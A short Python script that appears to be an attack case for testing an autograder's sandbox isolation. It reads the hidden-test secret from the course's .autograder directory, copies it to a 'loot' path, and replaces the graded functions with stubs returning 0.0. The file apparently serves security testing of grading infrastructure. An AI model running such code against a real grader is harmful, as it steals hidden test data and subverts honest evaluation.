"""Goal: read the secret that the hidden cases are drawn from.

Fires: reached
Without: isolation limits
"""

try:
    with open("@COURSE@/.autograder/secret") as file:
        secret = file.read()
    with open("@LOOT@/secret", "w") as file:
        file.write(secret)
except OSError:
    pass

def attack(*inputs):
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
